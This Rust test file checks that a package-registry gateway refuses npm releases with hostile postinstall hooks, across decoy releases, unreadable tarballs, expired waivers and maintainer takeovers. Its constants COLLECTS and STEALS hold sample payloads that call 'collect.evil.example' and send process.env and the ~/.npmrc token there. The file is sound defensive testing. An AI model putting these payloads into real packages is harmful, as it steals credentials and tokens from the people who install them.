//! Whichever release of a package is asked for first, the answer is the same: what nobody has looked at excuses nothing,
//! be it that there was no room to judge it, that it cannot be had, or that a waiver let it pass.

use serde_json::Value;
use weir_testing::{Fault, Package, Registry, Release};

use crate::excuses::{asked, before, package};
use crate::support::{Gateway, NPM, World};
use crate::unread::{DAY, by, hooked};

const HARMLESS: &str = "console.log('built');\n";

/// Talks to a host of its own when it is installed.
const COLLECTS: &str = "require('https').get('https://collect.evil.example/x')\n";

/// Takes the environment and the token when it is installed.
const STEALS: &str = "require('https').request({host:'collect.evil.example',method:'POST'})\
    .end(JSON.stringify(process.env)+require('fs').readFileSync(require('os').homedir()+'/.npmrc'))\n";

/// Runs this at install time.
fn with_hook(release: Release, code: &str) -> Release {
    release
        .file("x.js", code)
        .script("postinstall", "node x.js")
}

/// Depends on something that no registry has.
fn fetching(release: Release, number: i64) -> Release {
    release.dependency(
        &format!("dep-{number}"),
        &format!("github:someone/dep-{number}"),
    )
}

/// Honest releases of which each is made of something else than the one before.
fn changing(
    count: i64,
    version: impl Fn(i64) -> String,
    hours: impl Fn(i64) -> i64,
) -> Vec<Release> {
    let release = |number: i64| {
        let dependency = ["left-lib", "right-lib"][usize::from(number % 2 == 1)];
        by("mara", &version(number), hours(number)).dependency(dependency, "^1.0.0")
    };
    (0..count).map(release).collect()
}

fn tarball(version: &str) -> String {
    format!("/ledger-copy/-/ledger-copy-{version}.tgz")
}

fn assert_refused(gateway: &Gateway, version: &str, what: &str) {
    assert_eq!(asked(gateway, version).0, 403, "{what}: {version}");
}

/// The last release is refused if it is asked for alone, after the first, and after the first again.
fn assert_refused_in_any_order(registry: &Registry, what: &str, first: &str, last: &str) {
    for order in [&[last][..], &[first, last], &[last, first, last]] {
        let world = World::new();
        let mut gateway = world.serve(registry);
        for version in order {
            if *version == last {
                assert_refused(&gateway, last, &format!("{what}, of {order:?}"));
            } else {
                // Whatever comes of it.
                let _ = asked(&gateway, version);
            }
        }
        gateway.stop();
        let later = world.serve(registry);
        assert_refused(&later, last, &format!("{what}, later, of {order:?}"));
    }
}

/// However many came before, of whichever kind: what there is no room to judge excuses nothing.
#[test]
fn an_attack_does_not_hide_behind_many_honest_releases() {
    let stable = changing(
        310,
        |number| format!("1.10.{number}"),
        |number| 170 * DAY - number * 11,
    );
    let prereleases = changing(
        310,
        |number| format!("1.11.0-rc.{number}"),
        |number| 100 * DAY - number * 5,
    );
    for (what, honest) in [("stable", stable), ("prereleases", prereleases)] {
        let attack = [hooked("1.11.0", 12 * DAY), hooked("1.11.1", 3 * DAY)];
        let registry = before(package("ledger-copy", honest.into_iter().chain(attack)));
        assert_refused_in_any_order(&registry, what, "1.11.0", "1.11.1");
    }
}

/// What is usual in one line is none of the past of another.
#[test]
fn a_release_is_told_by_those_of_its_own_line() {
    let one =
        |number: i64, hours: i64| with_hook(by("mara", &format!("1.{number}.0"), hours), HARMLESS);
    let mut releases: Vec<Release> = (0..10)
        .map(|number| one(number, (600 - number * 25) * DAY))
        .collect();
    releases.extend(
        (0..6).map(|number| by("mara", &format!("2.{number}.0"), (400 - number * 40) * DAY)),
    );
    releases.push(one(10, 100 * DAY));
    releases.push(with_hook(by("mara", "2.6.0", 15 * DAY), COLLECTS));
    releases.push(with_hook(by("mara", "2.6.1", 3 * DAY), COLLECTS));
    let package = Package::new("ledger-copy").maintainer("mara");
    let registry = before(package.releases(releases));
    assert_refused_in_any_order(&registry, "another line", "2.6.0", "2.6.1");
}

/// Releases that speak against themselves do not keep the one from being read that brought what the last one has.
#[test]
fn decoys_keep_nothing_from_being_read() {
    let mut since = vec![with_hook(by("mara", "1.10.0", 40 * DAY), COLLECTS)];
    since.extend((0..5).map(|number| {
        let version = format!("1.10.{}", number + 1);
        let release = by("mara", &version, (35 - number * 4) * DAY);
        fetching(with_hook(release, COLLECTS), number)
    }));
    since.push(with_hook(by("mara", "1.10.9", 3 * DAY), COLLECTS));
    let registry = before(package("ledger-copy", since));
    assert_refused_in_any_order(&registry, "decoys", "1.10.0", "1.10.9");
}

/// What a third release has read on its way is no verdict on the second that stays.
#[test]
fn what_is_read_for_another_release_is_decided_on_anew() {
    let mut since = vec![
        by("mara", "0.20.0", 520 * DAY),
        with_hook(by("mara", "1.10.0", 45 * DAY), STEALS),
    ];
    since.extend((0..5).map(|number| {
        let version = format!("0.20.{}", number + 1);
        fetching(by("mara", &version, (40 - number * 4) * DAY), number)
    }));
    let second = with_hook(by("mara", "1.10.9", 10 * DAY), HARMLESS);
    since.extend([fetching(second, 9), by("mara", "1.11.0", 2 * DAY)]);
    let registry = before(package("ledger-copy", since));
    assert_refused_in_any_order(&registry, "after a third", "1.11.0", "1.10.9");
    assert_refused_in_any_order(&registry, "after the first", "1.10.0", "1.10.9");
}

/// A way in which a tarball cannot be had.
type Unreadable = fn(Fault) -> Fault;

const UNREADABLE: [(&str, Unreadable); 3] = [
    ("fails", |fault| fault.status(500)),
    ("is not there", |fault| fault.status(404)),
    ("is another", |fault| fault.wrong_bytes()),
];

#[test]
fn what_cannot_be_read_excuses_nothing() {
    for (what, fault) in UNREADABLE {
        let first = with_hook(by("mara", "1.10.0", 12 * DAY), STEALS);
        let second = with_hook(by("mara", "1.10.1", 3 * DAY), HARMLESS);
        let registry = before(package("ledger-copy", [first, fetching(second, 9)]));
        registry.fault(fault(Fault::on(tarball("1.10.0"))));
        let world = World::new();
        let mut gateway = world.serve(&registry);
        assert_refused(&gateway, "1.10.1", what);
        gateway.stop();
        registry.clear_faults();
        let gateway = world.serve(&registry);
        assert_refused(&gateway, "1.10.1", what);
    }
}

/// Whether a release is served, and whether that waits for releases before it.
fn inspected(world: &World, registry: &Registry, release: &str) -> (bool, bool) {
    let told = world.run_before(registry, &["inspect", release, "--json"]);
    let told: Value = serde_json::from_str(&told.stdout).unwrap();
    let gaps = told["incomplete"].as_array();
    let waits = gaps.is_some_and(|gaps| gaps.iter().any(|gap| gap["what"] == "earlier releases"));
    let action = told["decision"]["action"].as_str().unwrap();
    (["allow", "notice"].contains(&action), waits)
}

/// What is served meanwhile says so, and is asked about again.
#[test]
fn what_was_decided_without_an_earlier_release_is_decided_anew() {
    let first = with_hook(by("mara", "1.10.0", 12 * DAY), HARMLESS);
    let second = with_hook(by("mara", "1.10.1", 3 * DAY), HARMLESS);
    let registry = before(package("ledger-copy", [first, second]));
    let world = World::new();
    registry.fault(Fault::on(tarball("1.10.0")).status(500));
    let gateway = world.serve(&registry);
    assert_eq!(asked(&gateway, "1.10.1").0, 200);
    drop(gateway);
    let found = inspected(&world, &registry, "ledger-copy@1.10.1");
    assert_eq!(found, (true, true));
    registry.clear_faults();
    let found = inspected(&world, &registry, "ledger-copy@1.10.1");
    assert_eq!(found, (true, false));
}

/// Somebody new, which only the contents could tell more of, and then what speaks for itself.
#[test]
fn what_cannot_be_read_is_not_to_be_used_instead() {
    for (what, fault) in UNREADABLE {
        let first = by("eve", "1.10.0", 12 * DAY);
        let second = with_hook(by("eve", "1.10.1", 3 * DAY), STEALS);
        let registry = before(package("ledger-copy", [first, second]));
        registry.fault(fault(Fault::on(tarball("1.10.0"))));
        let world = World::new();
        let gateway = world.serve(&registry);
        assert_eq!(asked(&gateway, "1.10.1"), (403, "1.9.0".into()), "{what}");
    }
}

#[test]
fn what_a_waiver_let_pass_excuses_nothing_once_it_has_run_out() {
    let attack = [hooked("1.10.0", 12 * DAY), hooked("1.10.1", 3 * DAY)];
    let registry = before(package("ledger-copy", attack));
    let world = World::new().at("2026-11-18T10:00:00Z");
    world.policy(
        "[[waiver]]\npackage = \"ledger-copy\"\nversions = \"1.10.0\"\naction = \"allow\"\n\
         reason = \"looked at\"\nauthor = \"ana\"\nexpires = \"2026-11-19\"\n",
    );
    let mut gateway = world.serve(&registry);
    assert_eq!(asked(&gateway, "1.10.0").0, 200);
    // It is for the one version.
    assert_refused(&gateway, "1.10.1", "while it lasts");
    gateway.stop();
    let world = world.at(crate::support::NOW);
    let gateway = world.serve(&registry);
    for version in ["1.10.1", "1.10.0", "1.10.1"] {
        assert_refused(&gateway, version, "after it");
    }
}

/// What does harm is no past however long ago it came, if it is found out.
#[test]
fn what_does_harm_is_no_past() {
    let hostile = |version: &str, days: i64| with_hook(by("eve", version, days * DAY), STEALS);
    let attack = [hostile("1.10.0", 98), hostile("1.10.1", 3)];
    let registry = before(package("ledger-copy", attack));
    assert_refused_in_any_order(&registry, "long before", "1.10.0", "1.10.1");
}

/// Somebody new who does no harm is at home after three months, whoever asks for what.
#[test]
fn an_honest_takeover_is_held_for_three_months_and_no_longer() {
    for days in [130, 170] {
        let count = (days - 3) / 14 + 1;
        let since =
            (0..count).map(|number| hooked(&format!("1.10.{number}"), (days - number * 14) * DAY));
        let registry = before(package("ledger-copy", since));
        let last = format!("1.10.{}", count - 1);
        for pinned_first in [true, false] {
            let world = World::new();
            let mut gateway = world.serve(&registry);
            if pinned_first {
                assert_eq!(asked(&gateway, &last).0, 200, "{days}");
            }
            let document = gateway.packument(NPM, "ledger-copy");
            let latest = document["dist-tags"]["latest"].as_str();
            assert_eq!(latest, Some(last.as_str()), "{days}");
            // The first is refused, and kept so.
            assert_refused(&gateway, "1.10.0", "the first");
            assert_eq!(asked(&gateway, &last).0, 200, "{days}");
            gateway.stop();
            let later = world.serve(&registry);
            assert_eq!(asked(&later, &last).0, 200, "{days}");
        }
    }
}

/// Nobody installs it, and it tells all the same who publishes.
#[test]
fn a_prerelease_makes_nobody_at_home() {
    let first = with_hook(by("eve", "1.10.0-rc.1", 20 * DAY), STEALS);
    let second = fetching(by("eve", "1.10.0", 3 * DAY), 9);
    let registry = before(package("ledger-copy", [first, second]));
    assert_refused_in_any_order(&registry, "a prerelease", "1.10.0-rc.1", "1.10.0");
}

/// Whoever publishes more than there is room to judge does not have all of it read for each stable release.
#[test]
fn prereleases_beyond_counting_cost_a_stable_release_nothing() {
    let prereleases = changing(
        340,
        |number| format!("1.11.0-rc.{number}"),
        |number| 100 * DAY - number * 6,
    );
    let stable = [
        by("mara", "1.10.0", 60 * DAY),
        by("mara", "1.11.0", 12 * DAY),
        by("mara", "1.11.1", 9 * DAY),
    ];
    let registry = before(package(
        "ledger-copy",
        prereleases.into_iter().chain(stable),
    ));
    let world = World::new();
    let gateway = world.serve(&registry);
    assert_eq!(asked(&gateway, "1.11.1").0, 200);
    drop(gateway);
    let found = inspected(&world, &registry, "ledger-copy@1.11.1");
    assert_eq!(found, (true, false));
    let asked = registry.requests();
    let paths: Vec<&str> = asked.iter().map(|request| request.path.as_str()).collect();
    let read = paths.iter().filter(|path| path.contains("-rc."));
    assert_eq!(read.count(), 0, "{paths:?}");
}

/// What is refused for its packument alone, and would be the past by now, is read however much speaks against others.
#[test]
fn decoys_make_no_past_of_what_was_refused_long_before() {
    for count in [3, 4, 6] {
        let mut since = vec![by("mara", "0.1.0", 900 * DAY)];
        since.extend((0..count).map(|number| {
            let version = format!("0.2.{number}");
            fetching(by("mara", &version, (130 - number * 3) * DAY), number)
        }));
        since.push(with_hook(by("eve", "1.10.0", 100 * DAY), STEALS));
        since.push(with_hook(by("eve", "1.10.9", 3 * DAY), COLLECTS));
        let registry = before(package("ledger-copy", since));
        let what = format!("after {count} decoys");
        assert_refused_in_any_order(&registry, &what, "1.10.0", "1.10.9");
    }
}

/// A hook that has always been there, and does something else since.
#[test]
fn what_a_release_is_measured_by_is_judged_itself() {
    let past = (0..10).map(|number| {
        let version = format!("1.{number}.0");
        with_hook(by("mara", &version, (500 - number * 25) * DAY), HARMLESS)
    });
    let first = with_hook(by("mara", "1.10.0", 12 * DAY), STEALS);
    let second = with_hook(by("mara", "1.10.1", 3 * DAY), COLLECTS);
    let package = Package::new("ledger-copy").maintainer("mara");
    let package = package
        .releases(past)
        .releases([first, fetching(second, 9)]);
    let registry = before(package);
    assert_refused_in_any_order(&registry, "in an old hook", "1.10.0", "1.10.1");
}

/// It is gone through what came before a release as long as that is among the last months.
#[test]
fn an_attack_of_three_months_ago_is_refused_in_any_order() {
    let first = with_hook(by("eve", "1.10.0", 101 * DAY), STEALS);
    let second = with_hook(by("eve", "1.10.1", 94 * DAY), COLLECTS);
    let registry = before(package("ledger-copy", [first, second]));
    assert_refused_in_any_order(&registry, "three months ago", "1.10.0", "1.10.1");
}

/// Nobody can judge it, whatever its age.
#[test]
fn what_has_no_readable_manifest_is_not_to_be_used_instead() {
    for (field, value) in [
        ("scripts", Value::from(5)),
        ("dependencies", Value::from("x")),
        ("version", Value::from(7)),
        ("dist", Value::Null),
    ] {
        let odd = by("mara", "1.10.0", 12 * DAY).packument_field(field, value);
        let second = with_hook(by("eve", "1.10.1", 3 * DAY), COLLECTS);
        let registry = before(package("ledger-copy", [odd, second]));
        let world = World::new();
        let gateway = world.serve(&registry);
        assert_eq!(asked(&gateway, "1.10.1"), (403, "1.9.0".into()), "{field}");
    }
}
